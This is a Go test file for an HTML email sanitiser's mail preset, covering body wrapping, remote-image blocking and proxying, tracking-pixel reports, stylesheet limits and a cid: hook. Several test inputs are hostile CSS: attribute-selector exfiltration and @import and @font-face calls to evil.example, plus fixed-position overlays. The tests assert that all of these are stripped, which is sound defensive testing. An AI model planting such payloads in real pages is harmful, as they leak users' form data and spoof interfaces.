package sanitize

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/htmlclean/htmlclean/policy"
)

// mailPolicy returns the mail preset with remote_content set to remote.
func mailPolicy(t *testing.T, remote string) *policy.Policy {
	t.Helper()
	src := "extends: mail\nremote_content: " + remote + "\n"
	if remote == "proxy" {
		src += "proxy: \"https://proxy.example/i?u={url}\"\n"
	}
	p, err := policy.Load(strings.NewReader(src), "mail.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return p
}

const wrapOpen = `<div class="htmlclean-mail" style="position: relative; overflow: hidden`

// TestMailDocument: a whole document in, the body's content out in one
// wrapper that carries the body's attributes, the sheets its last child;
// in memory and streamed alike, and a fixed point.
func TestMailDocument(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{
			name: "document",
			in: `<!DOCTYPE html><html lang=en><head><meta charset=utf-8><title>Hi</title>` +
				`<style>p{color:red} body{margin:0;background:#eee}</style></head>` +
				`<body bgcolor="#ffffff" text="#333" link="#06c" style="font-family:Arial;margin:0" onload="x()">` +
				`<center><p>Hello <b>you</b></p></center></body></html>`,
			want: wrapOpen + `; font-family: Arial"><center><p>Hello <b>you</b></p></center>` +
				"<style>@scope{:scope.htmlclean-mail{background-color:#ffffff;color:#333}\n:scope.htmlclean-mail a{color:#06c}\n" +
				":scope.htmlclean-mail p{color:red}\n:scope.htmlclean-mail{background:#eee}\n}</style></div>",
		},
		{
			name: "fragment",
			in:   `<center><p>Hello <b>you</b></p></center>`,
			want: wrapOpen + `"><center><p>Hello <b>you</b></p></center></div>`,
		},
		{
			name: "empty",
			in:   ``,
			want: wrapOpen + `"></div>`,
		},
		{
			name: "sheet-in-body",
			in:   `<body><p class="lead htmlclean-mail">x</p><style>.lead{font-size:20px} input[value^=a]{background:url(https://evil.example/a)}</style></body>`,
			want: wrapOpen + `"><p class="lead">x</p><style>@scope{:scope.htmlclean-mail .lead{font-size:20px}` + "\n}</style></div>",
		},
		{
			name: "wrapper-cannot-be-closed",
			in:   `<p>a</div></div><p>b`,
			want: wrapOpen + `"><p>a</p><p>b</p></div>`,
		},
		{
			name: "overlay-refused",
			in:   `<style>.x{position:fixed;top:0} .y{z-index:99999;width:100vw}</style><div style="position:fixed;color:red">x</div>`,
			want: wrapOpen + `"><div style="color: red">x</div><style>@scope{:scope.htmlclean-mail .x{top:0}` + "\n}</style></div>",
		},
		{
			name: "body-padding-capped",
			in:   `<body style="padding:200px;color:red">x</body>`,
			want: wrapOpen + `; color: red">x</div>`,
		},
		{
			name: "body-padding-kept",
			in:   `<body style="padding: 10% 5px;color:red">x</body>`,
			want: wrapOpen + `; padding: 10% 5px; color: red">x</div>`,
		},
		{
			name: "end-tag-br-starts-body",
			in:   `</Br>x`,
			want: wrapOpen + `"><br>x</div>`,
		},
		{
			name: "end-tag-br-after-head",
			in:   `<head><title>t</title></head></br>`,
			want: wrapOpen + `"><br></div>`,
		},
		{
			name: "head-text-starts-body",
			in:   `<html><head><title>t</title></head>Hello<body bgcolor=red>x</body>`,
			want: wrapOpen + `">Hellox</div>`,
		},
	}
	p := policy.Mail()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, _ := mailOnce(t, tc.in, p) // in memory, streamed, again
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("String(%q) mismatch (-want +got):\n%s", tc.in, diff)
			}
		})
	}
}

// TestMailRemote: remote_content over every place a mail loads from.
func TestMailRemote(t *testing.T) {
	in := `<img src="https://img.example/a.png" alt=a><img srcset="https://img.example/b.png 2x">` +
		`<img src="cid:logo@mail" alt=c><table background="https://img.example/bg.png"><tr><td>t</td></tr></table>` +
		`<p style="background:url(https://img.example/p.png);color:red">p</p>` +
		`<style>.h{background-image:url("https://img.example/h.png")}</style><a href="https://example.com/">l</a>`
	tests := []struct{ remote, want string }{
		{"allow", wrapOpen + `"><img src="https://img.example/a.png" alt=a><img srcset="https://img.example/b.png 2x"><img src="cid:logo@mail" alt=c>` +
			`<table background="https://img.example/bg.png"><tr><td>t</td></tr></table><p style="background:url(https://img.example/p.png);color:red">p</p>` +
			`<a href="https://example.com/" rel="noopener noreferrer" target="_blank">l</a><style>@scope{:scope.htmlclean-mail .h{background-image:url("https://img.example/h.png")}` + "\n}</style></div>"},
		{"block", wrapOpen + `"><img alt=a><img src="cid:logo@mail" alt=c><table><tr><td>t</td></tr></table><p style="color: red">p</p>` +
			`<a href="https://example.com/" rel="noopener noreferrer" target="_blank">l</a></div>`},
		{"proxy", wrapOpen + `"><img src="https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fa.png" alt=a><img srcset="https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fb.png 2x"><img src="cid:logo@mail" alt=c>` +
			`<table background="https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fbg.png"><tr><td>t</td></tr></table><p style="background: url(&#34;https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fp.png&#34;); color: red">p</p>` +
			`<a href="https://example.com/" rel="noopener noreferrer" target="_blank">l</a><style>@scope{:scope.htmlclean-mail .h{background-image:url("https://proxy.example/i?u=https%3A%2F%2Fimg.example%2Fh.png")}` + "\n}</style></div>"},
	}
	for _, tc := range tests {
		t.Run(tc.remote, func(t *testing.T) {
			p := mailPolicy(t, tc.remote)
			got, changes, err := stringReport(in, p)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("mismatch (-want +got):\n%s", diff)
			}
			var reasons []Reason
			for _, c := range changes {
				reasons = append(reasons, c.Reason)
			}
			want := map[string]Reason{"block": ReasonRemoteBlocked, "proxy": ReasonRemoteProxied}[tc.remote]
			if want != "" && !slices.Contains(reasons, want) {
				t.Errorf("reasons %v, want %q among them", reasons, want)
			}
			if again, err := String(got, p); err != nil || again != got {
				t.Errorf("not idempotent:\nonce:  %q\ntwice: %q", got, again)
			}
		})
	}
}

// TestMailTrackingPixel: an image with a remote src that no reader sees is
// reported as a tracking pixel, whatever remote_content says.
func TestMailTrackingPixel(t *testing.T) {
	tests := []struct {
		name, in string
		want     bool
	}{
		{"one-by-one", `<img src="https://t.example/o.gif" width=1 height=1>`, true},
		{"zero-width", `<img src="https://t.example/o.gif" width=0 alt="">`, true},
		{"hidden", `<img src="https://t.example/o.gif" style="display: none">`, true},
		{"styled-1px", `<img src="https://t.example/o.gif" style="width:1px;height:1px">`, true},
		{"picture", `<img src="https://img.example/o.png" width=600 height=300>`, false},
		{"cid", `<img src="cid:x@y" width=1 height=1>`, false},
	}
	for _, remote := range []string{"allow", "block"} {
		p := mailPolicy(t, remote)
		for _, tc := range tests {
			t.Run(remote+"/"+tc.name, func(t *testing.T) {
				_, changes, err := stringReport(tc.in, p)
				if err != nil {
					t.Fatal(err)
				}
				got := slices.ContainsFunc(changes, func(c Change) bool { return c.Reason == ReasonTrackingPixel })
				if got != tc.want {
					t.Errorf("stringReport(%q): tracking pixel reported %v, want %v (%v)", tc.in, got, tc.want, changes)
				}
			})
		}
	}
}

// TestMailSheetReport: every rule or declaration removed from a sheet has
// a report line with the sheet sanitiser's reason.
func TestMailSheetReport(t *testing.T) {
	in := `<style>@import url(https://evil.example/x.css); input[value^=a]{color:red} a:visited{color:red}` +
		` .o{position:fixed} @font-face{font-family:x;src:url(https://evil.example/f)} p{color:red}</style>`
	_, changes, err := stringReport(in, policy.Mail())
	if err != nil {
		t.Fatal(err)
	}
	var got []Reason
	for _, c := range changes {
		if c.Element == "style" && c.Action == RemovedContent {
			got = append(got, c.Reason)
		}
	}
	for _, want := range []Reason{"css-sheet-import", "css-sheet-attribute-selector", "css-sheet-pseudo-class", "css-sheet-position", "css-sheet-at-rule"} {
		if !slices.Contains(got, want) {
			t.Errorf("reasons %v, want %q among them", got, want)
		}
	}
}

// TestMailOtherPresets: the other presets read no document and rewrite no
// remote content.
func TestMailOtherPresets(t *testing.T) {
	got, err := String(`<html><body bgcolor=red><style>p{}</style><p>x</p><img src="https://img.example/a.png" alt=a></body></html>`, policy.UGC())
	if err != nil {
		t.Fatal(err)
	}
	if want := `<p>x</p><img src="https://img.example/a.png" alt=a>`; got != want {
		t.Errorf("ugc: got %q, want %q", got, want)
	}
}

// TestMailSheetsBounded: however many sheets a document holds, what is
// held for the end of it stays within maxSheetBytes, and what is over is
// reported.
func TestMailSheetsBounded(t *testing.T) {
	sheet := "<style>" + strings.Repeat("p{color:red}", 20000) + "</style>"
	in := strings.Repeat(sheet, 8)
	got, changes, err := stringReport(in, policy.Mail())
	if err != nil {
		t.Fatal(err)
	}
	if len(got) > maxSheetBytes+200 {
		t.Errorf("output of %d bytes, want at most the sheet bound %d", len(got), maxSheetBytes)
	}
	if !slices.ContainsFunc(changes, func(c Change) bool { return c.Reason == "css-sheet-limit" }) {
		t.Error("no css-sheet-limit reported")
	}
}

// TestMailCIDHook: remote_content judges the URL the hook writes, not
// only the mail's own: a hook that maps a cid: part to a remote URL gets
// it blocked under block (reported, and a pixel so loaded is reported
// too), proxied under proxy; one that returns the proxy's URL is kept.
func TestMailCIDHook(t *testing.T) {
	part := func(u policy.URLContext) (string, bool) {
		if p, ok := strings.CutPrefix(u.URL, "cid:"); ok {
			if p == "proxied" {
				return "https://proxy.example/i?u=https%3A%2F%2Fattachments.example%2Fp", true
			}
			return "https://attachments.example/part/" + p, true
		}
		return u.URL, true
	}
	const in = `<img src="cid:logo" alt=l><img src="cid:px" width=1 height=1><img src="cid:proxied" alt=p>`
	for _, c := range []struct {
		remote, want string
		reasons      []Reason
	}{
		{"block", `"><img alt=l><img width=1 height=1><img alt=p></div>`,
			[]Reason{ReasonRemoteBlocked, ReasonRemoteBlocked, ReasonTrackingPixel, ReasonRemoteBlocked}},
		{"proxy", `"><img src="https://proxy.example/i?u=https%3A%2F%2Fattachments.example%2Fpart%2Flogo" alt=l>` +
			`<img src="https://proxy.example/i?u=https%3A%2F%2Fattachments.example%2Fpart%2Fpx" width=1 height=1>` +
			`<img src="https://proxy.example/i?u=https%3A%2F%2Fattachments.example%2Fp" alt=p></div>`,
			[]Reason{ReasonURLHook, ReasonURLHook, ReasonTrackingPixel, ReasonURLHook}},
	} {
		cfg := mailPolicy(t, c.remote).Config()
		cfg.Hooks.URL = part
		got, changes, err := stringReport(in, mustCompile(t, cfg))
		if err != nil {
			t.Fatal(err)
		}
		if want := wrapOpen + c.want; got != want {
			t.Errorf("%s: got  %q\nwant %q", c.remote, got, want)
		}
		var reasons []Reason
		for _, ch := range changes {
			if ch.Element == "img" {
				reasons = append(reasons, ch.Reason)
			}
		}
		if !slices.Equal(reasons, c.reasons) {
			t.Errorf("%s: reasons %v, want %v", c.remote, reasons, c.reasons)
		}
	}
}
